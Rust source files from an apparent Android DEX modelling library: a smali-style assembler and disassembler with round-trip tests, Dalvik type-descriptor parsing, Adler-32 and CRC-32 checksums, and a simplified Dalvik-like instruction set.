    flags
}

fn parse_class<'a, I>(lines: &mut std::iter::Peekable<I>) -> Result<ClassDef, DexError>
where
    I: Iterator<Item = &'a str>,
{
    let header = lines.next().expect("caller checked").trim();
    let mut words: Vec<&str> = header
        .strip_prefix(".class")
        .ok_or_else(|| DexError::Invalid(format!("bad class header {header:?}")))?
        .split_whitespace()
        .collect();
    let flags = parse_flags_and_rest(&mut words);
    let desc = words
        .first()
        .ok_or_else(|| DexError::Invalid(format!("missing class descriptor in {header:?}")))?;
    let name = TypeDesc::parse(desc)?
        .class_name()
        .ok_or_else(|| DexError::BadDescriptor((*desc).to_string()))?
        .to_string();

    let mut class = ClassDef::new(name, "java.lang.Object");
    class.flags = flags;

    while let Some(&line) = lines.peek() {
        let trimmed = line.trim();
        if trimmed.is_empty() {
            lines.next();
            continue;
        }
        if trimmed.starts_with(".class") {
            break; // next class begins
        }
        if let Some(rest) = trimmed.strip_prefix(".super ") {
            class.superclass = TypeDesc::parse(rest.trim())?
                .class_name()
                .ok_or_else(|| DexError::BadDescriptor(rest.to_string()))?
                .to_string();
            lines.next();
        } else if let Some(rest) = trimmed.strip_prefix(".source ") {
            class.source_file = Some(parse_quoted(rest.trim())?);
            lines.next();
        } else if let Some(rest) = trimmed.strip_prefix(".implements ") {
            class.interfaces.push(
                TypeDesc::parse(rest.trim())?
                    .class_name()
                    .ok_or_else(|| DexError::BadDescriptor(rest.to_string()))?
                    .to_string(),
            );
            lines.next();
        } else if let Some(rest) = trimmed.strip_prefix(".field ") {
            class.fields.push(parse_field(rest)?);
            lines.next();
        } else if trimmed.starts_with(".method") {
            class.methods.push(parse_method(lines)?);
        } else {
            return Err(DexError::Invalid(format!("unexpected line {trimmed:?}")));
        }
    }
    Ok(class)
}

fn parse_field(rest: &str) -> Result<Field, DexError> {
    let mut words: Vec<&str> = rest.split_whitespace().collect();
    let flags = parse_flags_and_rest(&mut words);
    let decl = words
        .first()
        .ok_or_else(|| DexError::Invalid(format!("bad field {rest:?}")))?;
    let (name, ty) = decl
        .split_once(':')
        .ok_or_else(|| DexError::Invalid(format!("bad field {rest:?}")))?;
    Ok(Field {
        name: name.to_string(),
        ty: TypeDesc::parse(ty)?,
        flags,
    })
}

fn parse_method<'a, I>(lines: &mut std::iter::Peekable<I>) -> Result<Method, DexError>
where
    I: Iterator<Item = &'a str>,
{
    let header = lines.next().expect("caller checked").trim();
    let mut words: Vec<&str> = header
        .strip_prefix(".method")
        .ok_or_else(|| DexError::Invalid(format!("bad method header {header:?}")))?
        .split_whitespace()
        .collect();
    let flags = parse_flags_and_rest(&mut words);
    let decl = words
        .first()
        .ok_or_else(|| DexError::Invalid(format!("missing method decl in {header:?}")))?;
    let paren = decl
        .find('(')
        .ok_or_else(|| DexError::Invalid(format!("bad method decl {decl:?}")))?;
    let name = decl[..paren].to_string();
    let sig = MethodSig::parse(&decl[paren..])?;

    let mut method = Method {
        name,
        sig,
        flags,
        registers: 8,
        code: Vec::new(),
    };

    for line in lines.by_ref() {
        let trimmed = line.trim();
        if trimmed.is_empty() {
            continue;
        }
        if trimmed == ".end method" {
            return Ok(method);
        }
        if let Some(rest) = trimmed.strip_prefix(".registers ") {
            method.registers = rest
                .trim()
                .parse()
                .map_err(|_| DexError::Invalid(format!("bad .registers {rest:?}")))?;
            continue;
        }
        method.code.push(parse_insn(trimmed)?);
    }
    Err(DexError::Invalid(format!(
        "method {} missing .end method",
        method.name
    )))
}

fn parse_quoted(s: &str) -> Result<String, DexError> {
    let inner = s
        .strip_prefix('"')
        .and_then(|s| s.strip_suffix('"'))
        .ok_or_else(|| DexError::Invalid(format!("expected quoted string, got {s:?}")))?;
    // Unescape the subset produced by Rust's {:?} formatting that we emit.
    let mut out = String::with_capacity(inner.len());
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some('\\') => out.push('\\'),
                Some('"') => out.push('"'),
                Some('\'') => out.push('\''),
                Some('u') => {
                    // \u{XXXX}
                    let mut buf = String::new();
                    if chars.next() != Some('{') {
                        return Err(DexError::Invalid(format!("bad escape in {s:?}")));
                    }
                    for c in chars.by_ref() {
                        if c == '}' {
                            break;
                        }
                        buf.push(c);
                    }
                    let cp = u32::from_str_radix(&buf, 16)
                        .map_err(|_| DexError::Invalid(format!("bad unicode escape in {s:?}")))?;
                    out.push(
                        char::from_u32(cp)
                            .ok_or_else(|| DexError::Invalid(format!("bad codepoint in {s:?}")))?,
                    );
                }
                other => {
                    return Err(DexError::Invalid(format!("bad escape {other:?} in {s:?}")));
                }
            }
        } else {
            out.push(c);
        }
    }
    Ok(out)
}

fn parse_reg(s: &str) -> Result<Reg, DexError> {
    s.trim()
        .trim_end_matches(',')
        .strip_prefix('v')
        .and_then(|n| n.parse().ok())
        .ok_or_else(|| DexError::Invalid(format!("bad register {s:?}")))
}

fn parse_target(s: &str) -> Result<u32, DexError> {
    s.trim()
        .strip_prefix(':')
        .and_then(|n| n.parse().ok())
        .ok_or_else(|| DexError::Invalid(format!("bad branch target {s:?}")))
}

fn parse_cmp(mnemonic: &str) -> Result<CmpKind, DexError> {
    Ok(match mnemonic {
        "eq" => CmpKind::Eq,
        "ne" => CmpKind::Ne,
        "lt" => CmpKind::Lt,
        "ge" => CmpKind::Ge,
        "gt" => CmpKind::Gt,
        "le" => CmpKind::Le,
        _ => return Err(DexError::Invalid(format!("bad comparison {mnemonic:?}"))),
    })
}

fn parse_insn(line: &str) -> Result<Instruction, DexError> {
    let bad = || DexError::Invalid(format!("unparseable instruction {line:?}"));
    let (mnemonic, rest) = match line.split_once(' ') {
        Some((m, r)) => (m, r.trim()),
        None => (line, ""),
    };
    let args: Vec<&str> = if rest.is_empty() {
        Vec::new()
    } else {
        split_args(rest)
    };

    Ok(match mnemonic {
        "nop" => Instruction::Nop,
        "const" => Instruction::Const {
            dst: parse_reg(args.first().ok_or_else(bad)?)?,
            value: args.get(1).and_then(|v| v.parse().ok()).ok_or_else(bad)?,
        },
        "const-string" => Instruction::ConstString {
            dst: parse_reg(args.first().ok_or_else(bad)?)?,
            value: parse_quoted(args.get(1).ok_or_else(bad)?)?,
        },
        "const-null" => Instruction::ConstNull {
            dst: parse_reg(args.first().ok_or_else(bad)?)?,
        },
        "move" => Instruction::Move {
            dst: parse_reg(args.first().ok_or_else(bad)?)?,
            src: parse_reg(args.get(1).ok_or_else(bad)?)?,
        },
        "move-result" => Instruction::MoveResult {
            dst: parse_reg(args.first().ok_or_else(bad)?)?,
        },
        "new-instance" => Instruction::NewInstance {
            dst: parse_reg(args.first().ok_or_else(bad)?)?,
            class: TypeDesc::parse(args.get(1).ok_or_else(bad)?)?
                .class_name()
                .ok_or_else(bad)?
                .to_string(),
        },
        "invoke-virtual" | "invoke-direct" | "invoke-static" | "invoke-interface" => {
            let kind = match mnemonic {
                "invoke-virtual" => InvokeKind::Virtual,
                "invoke-direct" => InvokeKind::Direct,
                "invoke-static" => InvokeKind::Static,
                _ => InvokeKind::Interface,
            };
            // Form: {v1, v2}, Lcls;->name(sig)ret
            let open = rest.find('{').ok_or_else(bad)?;
            let close = rest.find('}').ok_or_else(bad)?;
            let reg_list = &rest[open + 1..close];
            let regs: Result<Vec<Reg>, DexError> = reg_list
                .split(',')
                .filter(|s| !s.trim().is_empty())
                .map(parse_reg)
                .collect();
            let after = rest[close + 1..].trim_start_matches(',').trim();
            Instruction::Invoke {
                kind,
                method: MethodRef::parse(after)?,
                args: regs?,
            }
        }
        "iget" => Instruction::IGet {
            dst: parse_reg(args.first().ok_or_else(bad)?)?,
            obj: parse_reg(args.get(1).ok_or_else(bad)?)?,
            field: FieldRef::parse(args.get(2).ok_or_else(bad)?)?,
        },
        "iput" => Instruction::IPut {
            src: parse_reg(args.first().ok_or_else(bad)?)?,
            obj: parse_reg(args.get(1).ok_or_else(bad)?)?,
            field: FieldRef::parse(args.get(2).ok_or_else(bad)?)?,
        },
        "sget" => Instruction::SGet {
            dst: parse_reg(args.first().ok_or_else(bad)?)?,
            field: FieldRef::parse(args.get(1).ok_or_else(bad)?)?,
        },
        "sput" => Instruction::SPut {
            src: parse_reg(args.first().ok_or_else(bad)?)?,
            field: FieldRef::parse(args.get(1).ok_or_else(bad)?)?,
        },
        "goto" => Instruction::Goto {
            target: parse_target(args.first().ok_or_else(bad)?)?,
        },
        "return-void" => Instruction::ReturnVoid,
        "return" => Instruction::Return {
            reg: parse_reg(args.first().ok_or_else(bad)?)?,
        },
        "throw" => Instruction::Throw {
            reg: parse_reg(args.first().ok_or_else(bad)?)?,
        },
        "check-cast" => Instruction::CheckCast {
            reg: parse_reg(args.first().ok_or_else(bad)?)?,
            class: TypeDesc::parse(args.get(1).ok_or_else(bad)?)?
                .class_name()
                .ok_or_else(bad)?
                .to_string(),
        },
        m if m.starts_with("if-") => {
            let cond = &m[3..];
            if let Some(z) = cond.strip_suffix('z') {
                Instruction::IfZero {
                    cmp: parse_cmp(z)?,
                    reg: parse_reg(args.first().ok_or_else(bad)?)?,
                    target: parse_target(args.get(1).ok_or_else(bad)?)?,
                }
            } else {
                Instruction::IfCmp {
                    cmp: parse_cmp(cond)?,
                    a: parse_reg(args.first().ok_or_else(bad)?)?,
                    b: parse_reg(args.get(1).ok_or_else(bad)?)?,
                    target: parse_target(args.get(2).ok_or_else(bad)?)?,
                }
            }
        }
        m if m.ends_with("-int") => {
            let op = match m {
                "add-int" => BinOp::Add,
                "sub-int" => BinOp::Sub,
                "mul-int" => BinOp::Mul,
                "div-int" => BinOp::Div,
                "rem-int" => BinOp::Rem,
                "xor-int" => BinOp::Xor,
                "and-int" => BinOp::And,
                "or-int" => BinOp::Or,
                _ => return Err(bad()),
            };
            Instruction::BinOp {
                op,
                dst: parse_reg(args.first().ok_or_else(bad)?)?,
                a: parse_reg(args.get(1).ok_or_else(bad)?)?,
                b: parse_reg(args.get(2).ok_or_else(bad)?)?,
            }
        }
        _ => return Err(bad()),
    })
}

/// Splits instruction operands on commas, but not inside quotes.
fn split_args(rest: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut depth_quote = false;
    let mut start = 0;
    let bytes = rest.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'"' if i == 0 || bytes[i - 1] != b'\\' => depth_quote = !depth_quote,
            b',' if !depth_quote => {
                out.push(rest[start..i].trim());
                start = i + 1;
            }
            _ => {}
        }
        i += 1;
    }
    let tail = rest[start..].trim();
    if !tail.is_empty() {
        out.push(tail);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::builder::DexBuilder;

    fn sample() -> DexFile {
        let mut b = DexBuilder::new();
        {
            let c = b.class("com.example.Main", "android.app.Activity");
            c.flags(AccessFlags::PUBLIC | AccessFlags::FINAL)
                .source_file("Main.java")
                .interface("java.lang.Runnable")
                .field("count", "I", AccessFlags::PRIVATE);
            let m = c.method("onCreate", "(I)V", AccessFlags::PUBLIC);
            m.registers(6);
            m.const_str(0, "/data/data/com.example/files/x.dex");
            m.new_instance(1, "dalvik.system.DexClassLoader");
            m.invoke_direct(
                MethodRef::new(
                    "dalvik.system.DexClassLoader",
                    "<init>",
                    "(Ljava/lang/String;)V",
                ),
                vec![1, 0],
            );
            m.ret_void();

            let m2 = c.method("loop", "(I)I", AccessFlags::PUBLIC | AccessFlags::STATIC);
            m2.registers(4);
            let head = m2.label();
            let end = m2.label();
            m2.bind(head);
            m2.if_zero(CmpKind::Le, 1, end);
            m2.const_int(0, 1);
            m2.binop(BinOp::Sub, 1, 1, 0);
            m2.goto(head);
            m2.bind(end);
            m2.ret(1);
        }
        b.build()
    }

    #[test]
    fn round_trip() {
        let dex = sample();
        let text = disassemble(&dex);
        let back = assemble(&text).unwrap();
        assert_eq!(back, dex);
    }

    #[test]
    fn disassembly_contains_expected_directives() {
        let text = disassemble(&sample());
        assert!(text.contains(".class public final Lcom/example/Main;"));
        assert!(text.contains(".super Landroid/app/Activity;"));
        assert!(text.contains(".implements Ljava/lang/Runnable;"));
        assert!(text.contains(".field private count:I"));
        assert!(text.contains(".method public onCreate(I)V"));
        assert!(text.contains(
            "invoke-direct {v1, v0}, Ldalvik/system/DexClassLoader;-><init>(Ljava/lang/String;)V"
        ));
        assert!(text.contains(".end method"));
    }

    #[test]
    fn string_with_commas_and_escapes_round_trips() {
        let mut b = DexBuilder::new();
        let c = b.class("a.B", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC);
        m.const_str(0, "hello, \"world\"\nnext");
        m.ret_void();
        let dex = b.build();
        let back = assemble(&disassemble(&dex)).unwrap();
        assert_eq!(back, dex);
    }

    #[test]
    fn assemble_rejects_garbage() {
        assert!(assemble("not smali at all").is_err());
        assert!(
            assemble(".class Lx/Y;\n.method public f()V\nbogus-insn v0\n.end method\n").is_err()
        );
        assert!(assemble(".class Lx/Y;\n.method public f()V\n.registers 2\n").is_err());
    }

    #[test]
    fn multi_class_round_trip() {
        let mut b = DexBuilder::new();
        b.class("a.A", "java.lang.Object").default_constructor();
        b.class("a.B", "java.lang.Object").default_constructor();
        let dex = b.build();
        let back = assemble(&disassemble(&dex)).unwrap();
        assert_eq!(back.classes().len(), 2);
        assert_eq!(back, dex);
    }

    #[test]
    fn branch_targets_round_trip() {
        let dex = sample();
        let back = assemble(&disassemble(&dex)).unwrap();
        let m = back
            .class("com.example.Main")
            .unwrap()
            .method_by_name("loop")
            .unwrap();
        assert_eq!(m.code[0].branch_target(), Some(4));
        assert_eq!(m.code[3].branch_target(), Some(0));
    }

    #[test]
    fn parse_quoted_escapes() {
        assert_eq!(parse_quoted("\"a\\nb\"").unwrap(), "a\nb");
        assert_eq!(parse_quoted("\"q\\\"q\"").unwrap(), "q\"q");
        assert!(parse_quoted("no quotes").is_err());
    }
}
