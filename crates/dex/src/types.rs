//! Type descriptors for the simplified DEX model.
//!
//! Descriptors use JVM/Dalvik syntax: `I` for `int`, `V` for `void`,
//! `Lcom/example/Foo;` for reference types, `[I` for arrays.

use std::fmt;

use serde::{Deserialize, Serialize};

/// A type in the simplified DEX type system.
///
/// Class names are stored in dotted Java form (`com.example.Foo`); the
/// descriptor form (`Lcom/example/Foo;`) is produced on demand.
///
/// # Example
///
/// ```
/// use dydroid_dex::TypeDesc;
///
/// let t = TypeDesc::parse("Lcom/example/Foo;")?;
/// assert_eq!(t, TypeDesc::Class("com.example.Foo".to_string()));
/// assert_eq!(t.descriptor(), "Lcom/example/Foo;");
/// # Ok::<(), dydroid_dex::DexError>(())
/// ```
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum TypeDesc {
    /// `void` (`V`), only valid as a return type.
    Void,
    /// `boolean` (`Z`).
    Boolean,
    /// `int` (`I`). The simplified model folds all integral widths into one.
    Int,
    /// `long` (`J`).
    Long,
    /// A reference type (`Lpkg/Name;`), stored in dotted form.
    Class(String),
    /// A one-or-more-dimensional array of an element type.
    Array(Box<TypeDesc>),
}

impl TypeDesc {
    /// Convenience constructor for a class type from a dotted name.
    pub fn class(name: impl Into<String>) -> Self {
        TypeDesc::Class(name.into())
    }

    /// The well-known `java.lang.Object` type.
    pub fn object() -> Self {
        TypeDesc::class("java.lang.Object")
    }

    /// The well-known `java.lang.String` type.
    pub fn string() -> Self {
        TypeDesc::class("java.lang.String")
    }

    /// Parses a Dalvik-style descriptor.
    ///
    /// # Errors
    ///
    /// Returns [`crate::DexError::BadDescriptor`] if the string is not a
    /// valid descriptor.
    pub fn parse(desc: &str) -> Result<Self, crate::DexError> {
        let (t, rest) = Self::parse_prefix(desc)?;
        if rest.is_empty() {
            Ok(t)
        } else {
            Err(crate::DexError::BadDescriptor(desc.to_string()))
        }
    }

    /// Parses one descriptor from the front of `desc`, returning the parsed
    /// type and the remaining suffix. Used by signature parsing.
    ///
    /// # Errors
    ///
    /// Returns [`crate::DexError::BadDescriptor`] on malformed input.
    pub fn parse_prefix(desc: &str) -> Result<(Self, &str), crate::DexError> {
        let mut chars = desc.chars();
        match chars.next() {
            Some('V') => Ok((TypeDesc::Void, chars.as_str())),
            Some('Z') => Ok((TypeDesc::Boolean, chars.as_str())),
            Some('I') => Ok((TypeDesc::Int, chars.as_str())),
            Some('J') => Ok((TypeDesc::Long, chars.as_str())),
            Some('[') => {
                let (inner, rest) = Self::parse_prefix(chars.as_str())?;
                if inner == TypeDesc::Void {
                    return Err(crate::DexError::BadDescriptor(desc.to_string()));
                }
                Ok((TypeDesc::Array(Box::new(inner)), rest))
            }
            Some('L') => {
                let rest = chars.as_str();
                match rest.find(';') {
                    Some(end) if end > 0 => {
                        let name = rest[..end].replace('/', ".");
                        Ok((TypeDesc::Class(name), &rest[end + 1..]))
                    }
                    _ => Err(crate::DexError::BadDescriptor(desc.to_string())),
                }
            }
            _ => Err(crate::DexError::BadDescriptor(desc.to_string())),
        }
    }

    /// Renders this type as a Dalvik-style descriptor string.
    pub fn descriptor(&self) -> String {
        match self {
            TypeDesc::Void => "V".to_string(),
            TypeDesc::Boolean => "Z".to_string(),
            TypeDesc::Int => "I".to_string(),
            TypeDesc::Long => "J".to_string(),
            TypeDesc::Class(name) => format!("L{};", name.replace('.', "/")),
            TypeDesc::Array(inner) => format!("[{}", inner.descriptor()),
        }
    }

    /// Returns the dotted class name if this is a class type.
    pub fn class_name(&self) -> Option<&str> {
        match self {
            TypeDesc::Class(name) => Some(name),
            _ => None,
        }
    }

    /// Whether this is a reference (class or array) type.
    pub fn is_reference(&self) -> bool {
        matches!(self, TypeDesc::Class(_) | TypeDesc::Array(_))
    }
}

impl fmt::Display for TypeDesc {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.descriptor())
    }
}

/// Splits a dotted class name into `(package, simple_name)`.
///
/// A class with no package returns an empty package.
///
/// # Example
///
/// ```
/// use dydroid_dex::types::split_class_name;
///
/// assert_eq!(split_class_name("com.example.Foo"), ("com.example", "Foo"));
/// assert_eq!(split_class_name("Foo"), ("", "Foo"));
/// ```
pub fn split_class_name(name: &str) -> (&str, &str) {
    match name.rfind('.') {
        Some(idx) => (&name[..idx], &name[idx + 1..]),
        None => ("", name),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_primitives() {
        assert_eq!(TypeDesc::parse("V").unwrap(), TypeDesc::Void);
        assert_eq!(TypeDesc::parse("Z").unwrap(), TypeDesc::Boolean);
        assert_eq!(TypeDesc::parse("I").unwrap(), TypeDesc::Int);
        assert_eq!(TypeDesc::parse("J").unwrap(), TypeDesc::Long);
    }

    #[test]
    fn parse_class() {
        let t = TypeDesc::parse("Ljava/lang/String;").unwrap();
        assert_eq!(t, TypeDesc::string());
        assert_eq!(t.class_name(), Some("java.lang.String"));
    }

    #[test]
    fn parse_array() {
        let t = TypeDesc::parse("[[I").unwrap();
        assert_eq!(
            t,
            TypeDesc::Array(Box::new(TypeDesc::Array(Box::new(TypeDesc::Int))))
        );
        assert_eq!(t.descriptor(), "[[I");
    }

    #[test]
    fn reject_malformed() {
        for bad in ["", "X", "L;", "Lfoo", "IV", "[V", "Lfoo;x"] {
            assert!(TypeDesc::parse(bad).is_err(), "should reject {bad:?}");
        }
    }

    #[test]
    fn descriptor_round_trip() {
        for desc in ["V", "Z", "I", "J", "[J", "Lcom/a/B;", "[[Lx/Y;"] {
            let t = TypeDesc::parse(desc).unwrap();
            assert_eq!(t.descriptor(), desc);
        }
    }

    #[test]
    fn split_names() {
        assert_eq!(split_class_name("a.b.C"), ("a.b", "C"));
        assert_eq!(split_class_name("C"), ("", "C"));
    }

    #[test]
    fn display_matches_descriptor() {
        let t = TypeDesc::class("a.B");
        assert_eq!(t.to_string(), "La/B;");
    }

    #[test]
    fn reference_check() {
        assert!(TypeDesc::class("a.B").is_reference());
        assert!(TypeDesc::Array(Box::new(TypeDesc::Int)).is_reference());
        assert!(!TypeDesc::Int.is_reference());
    }
}
