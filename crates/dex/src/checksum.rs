//! Checksums used by the container formats: Adler-32 for DEX files (as in
//! real DEX headers) and CRC-32 for APK archive entries (as in ZIP).

/// Computes the Adler-32 checksum of `data`, as used in the DEX header.
///
/// # Example
///
/// ```
/// use dydroid_dex::checksum::adler32;
///
/// // Known vector: "Wikipedia" -> 0x11E60398.
/// assert_eq!(adler32(b"Wikipedia"), 0x11E6_0398);
/// ```
pub fn adler32(data: &[u8]) -> u32 {
    const MOD: u32 = 65_521;
    let mut a: u32 = 1;
    let mut b: u32 = 0;
    // Process in chunks small enough that the sums cannot overflow before a
    // modulo reduction (5552 is the standard zlib NMAX).
    for chunk in data.chunks(5552) {
        for &byte in chunk {
            a += u32::from(byte);
            b += a;
        }
        a %= MOD;
        b %= MOD;
    }
    (b << 16) | a
}

/// Computes the CRC-32 (IEEE, reflected) of `data`, as used for APK entries.
///
/// # Example
///
/// ```
/// use dydroid_dex::checksum::crc32;
///
/// // Known vector: "123456789" -> 0xCBF43926.
/// assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
/// ```
pub fn crc32(data: &[u8]) -> u32 {
    let table = crc_table();
    let mut crc: u32 = 0xFFFF_FFFF;
    for &byte in data {
        let idx = ((crc ^ u32::from(byte)) & 0xFF) as usize;
        crc = (crc >> 8) ^ table[idx];
    }
    !crc
}

fn crc_table() -> [u32; 256] {
    let mut table = [0u32; 256];
    let mut i = 0;
    while i < 256 {
        let mut c = i as u32;
        let mut k = 0;
        while k < 8 {
            c = if c & 1 != 0 {
                0xEDB8_8320 ^ (c >> 1)
            } else {
                c >> 1
            };
            k += 1;
        }
        table[i] = c;
        i += 1;
    }
    table
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn adler32_known_vectors() {
        assert_eq!(adler32(b""), 1);
        assert_eq!(adler32(b"Wikipedia"), 0x11E6_0398);
    }

    #[test]
    fn adler32_large_input_no_overflow() {
        let data = vec![0xFFu8; 100_000];
        // Must not panic and must be deterministic.
        assert_eq!(adler32(&data), adler32(&data));
    }

    #[test]
    fn crc32_known_vectors() {
        assert_eq!(crc32(b""), 0);
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(
            crc32(b"The quick brown fox jumps over the lazy dog"),
            0x414F_A339
        );
    }

    #[test]
    fn checksums_detect_corruption() {
        let data = b"hello world".to_vec();
        let mut corrupted = data.clone();
        corrupted[3] ^= 0x01;
        assert_ne!(adler32(&data), adler32(&corrupted));
        assert_ne!(crc32(&data), crc32(&corrupted));
    }
}
