//! The Dalvik-like instruction set executed by the simulated runtime.
//!
//! A method body is a `Vec<Instruction>`; branch targets are absolute
//! instruction indices within that body. The set is register-based like
//! Dalvik: each method declares a register count and instructions address
//! registers `v0..vN`.

use std::fmt;

use serde::{Deserialize, Serialize};

use crate::refs::{FieldRef, MethodRef};
use crate::types::TypeDesc;

/// A virtual register index within a method frame.
pub type Reg = u16;

/// How a method is invoked. Mirrors the Dalvik invoke kinds that matter to
/// the analyses (the simplified VM dispatches them identically except for
/// `Static`, which has no receiver).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum InvokeKind {
    /// `invoke-virtual`: receiver in the first argument register.
    Virtual,
    /// `invoke-direct`: constructors and private methods.
    Direct,
    /// `invoke-static`: no receiver.
    Static,
    /// `invoke-interface`: dispatched like virtual in the simplified VM.
    Interface,
}

impl InvokeKind {
    /// The smali mnemonic suffix for this kind.
    pub fn mnemonic(self) -> &'static str {
        match self {
            InvokeKind::Virtual => "invoke-virtual",
            InvokeKind::Direct => "invoke-direct",
            InvokeKind::Static => "invoke-static",
            InvokeKind::Interface => "invoke-interface",
        }
    }

    /// Whether this kind carries a receiver in its first argument register.
    pub fn has_receiver(self) -> bool {
        !matches!(self, InvokeKind::Static)
    }
}

/// Binary arithmetic/logic operations.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum BinOp {
    /// Integer addition.
    Add,
    /// Integer subtraction.
    Sub,
    /// Integer multiplication.
    Mul,
    /// Integer division (the VM throws on division by zero).
    Div,
    /// Integer remainder (the VM throws on division by zero).
    Rem,
    /// Bitwise xor.
    Xor,
    /// Bitwise and.
    And,
    /// Bitwise or.
    Or,
}

impl BinOp {
    /// The smali mnemonic for this operation.
    pub fn mnemonic(self) -> &'static str {
        match self {
            BinOp::Add => "add-int",
            BinOp::Sub => "sub-int",
            BinOp::Mul => "mul-int",
            BinOp::Div => "div-int",
            BinOp::Rem => "rem-int",
            BinOp::Xor => "xor-int",
            BinOp::And => "and-int",
            BinOp::Or => "or-int",
        }
    }
}

/// Comparison kinds used by conditional branches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum CmpKind {
    /// Equal.
    Eq,
    /// Not equal.
    Ne,
    /// Less than.
    Lt,
    /// Greater or equal.
    Ge,
    /// Greater than.
    Gt,
    /// Less or equal.
    Le,
}

impl CmpKind {
    /// The smali mnemonic suffix for this comparison (`eq` in `if-eq`).
    pub fn mnemonic(self) -> &'static str {
        match self {
            CmpKind::Eq => "eq",
            CmpKind::Ne => "ne",
            CmpKind::Lt => "lt",
            CmpKind::Ge => "ge",
            CmpKind::Gt => "gt",
            CmpKind::Le => "le",
        }
    }

    /// Evaluates the comparison over two integers.
    pub fn eval(self, a: i64, b: i64) -> bool {
        match self {
            CmpKind::Eq => a == b,
            CmpKind::Ne => a != b,
            CmpKind::Lt => a < b,
            CmpKind::Ge => a >= b,
            CmpKind::Gt => a > b,
            CmpKind::Le => a <= b,
        }
    }
}

/// One instruction of the simplified Dalvik-like ISA.
///
/// Branch `target`s are absolute indices into the owning method's
/// instruction vector. [`crate::builder::MethodBuilder`] provides labels
/// that resolve to these indices.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub enum Instruction {
    /// No operation.
    Nop,
    /// Load a 64-bit integer constant into `dst`.
    Const {
        /// Destination register.
        dst: Reg,
        /// Constant value.
        value: i64,
    },
    /// Load a string constant into `dst`.
    ConstString {
        /// Destination register.
        dst: Reg,
        /// The string value (interned into the string pool on encode).
        value: String,
    },
    /// Load the `null` reference into `dst`.
    ConstNull {
        /// Destination register.
        dst: Reg,
    },
    /// Copy `src` into `dst`.
    Move {
        /// Destination register.
        dst: Reg,
        /// Source register.
        src: Reg,
    },
    /// Copy the result of the most recent invoke into `dst`.
    MoveResult {
        /// Destination register.
        dst: Reg,
    },
    /// Allocate a new (uninitialised) instance of `class` into `dst`.
    NewInstance {
        /// Destination register.
        dst: Reg,
        /// Dotted class name.
        class: String,
    },
    /// Invoke a method. For non-static kinds the receiver is `args[0]`.
    Invoke {
        /// Dispatch kind.
        kind: InvokeKind,
        /// Callee reference.
        method: MethodRef,
        /// Argument registers (receiver first for instance calls).
        args: Vec<Reg>,
    },
    /// Read instance field `field` of the object in `obj` into `dst`.
    IGet {
        /// Destination register.
        dst: Reg,
        /// Object register.
        obj: Reg,
        /// Field reference.
        field: FieldRef,
    },
    /// Write `src` into instance field `field` of the object in `obj`.
    IPut {
        /// Source register.
        src: Reg,
        /// Object register.
        obj: Reg,
        /// Field reference.
        field: FieldRef,
    },
    /// Read static field `field` into `dst`.
    SGet {
        /// Destination register.
        dst: Reg,
        /// Field reference.
        field: FieldRef,
    },
    /// Write `src` into static field `field`.
    SPut {
        /// Source register.
        src: Reg,
        /// Field reference.
        field: FieldRef,
    },
    /// Branch to `target` if `reg` compares against zero.
    IfZero {
        /// Comparison kind (`if-eqz` etc.).
        cmp: CmpKind,
        /// Tested register.
        reg: Reg,
        /// Absolute instruction index to jump to.
        target: u32,
    },
    /// Branch to `target` if `a cmp b` holds.
    IfCmp {
        /// Comparison kind (`if-eq` etc.).
        cmp: CmpKind,
        /// Left operand register.
        a: Reg,
        /// Right operand register.
        b: Reg,
        /// Absolute instruction index to jump to.
        target: u32,
    },
    /// Unconditional branch to `target`.
    Goto {
        /// Absolute instruction index to jump to.
        target: u32,
    },
    /// `dst = a op b` over integers.
    BinOp {
        /// Operation.
        op: BinOp,
        /// Destination register.
        dst: Reg,
        /// Left operand register.
        a: Reg,
        /// Right operand register.
        b: Reg,
    },
    /// Return void.
    ReturnVoid,
    /// Return the value in `reg`.
    Return {
        /// Returned register.
        reg: Reg,
    },
    /// Throw the throwable (or simulated error value) in `reg`.
    Throw {
        /// Thrown register.
        reg: Reg,
    },
    /// `check-cast` — asserts the object in `reg` is of type `class`.
    CheckCast {
        /// Checked register.
        reg: Reg,
        /// Dotted class name.
        class: String,
    },
}

impl Instruction {
    /// The branch target of this instruction, if it has one.
    pub fn branch_target(&self) -> Option<u32> {
        match self {
            Instruction::IfZero { target, .. }
            | Instruction::IfCmp { target, .. }
            | Instruction::Goto { target } => Some(*target),
            _ => None,
        }
    }

    /// Rewrites the branch target, if this instruction has one.
    pub fn set_branch_target(&mut self, new_target: u32) {
        match self {
            Instruction::IfZero { target, .. }
            | Instruction::IfCmp { target, .. }
            | Instruction::Goto { target } => *target = new_target,
            _ => {}
        }
    }

    /// Whether control flow can fall through to the next instruction.
    pub fn falls_through(&self) -> bool {
        !matches!(
            self,
            Instruction::Goto { .. }
                | Instruction::ReturnVoid
                | Instruction::Return { .. }
                | Instruction::Throw { .. }
        )
    }

    /// The invoked method, if this is an invoke instruction.
    pub fn invoked_method(&self) -> Option<&MethodRef> {
        match self {
            Instruction::Invoke { method, .. } => Some(method),
            _ => None,
        }
    }

    /// The type mentioned by this instruction (new-instance / check-cast).
    pub fn mentioned_class(&self) -> Option<&str> {
        match self {
            Instruction::NewInstance { class, .. } | Instruction::CheckCast { class, .. } => {
                Some(class)
            }
            _ => None,
        }
    }
}

impl fmt::Display for Instruction {
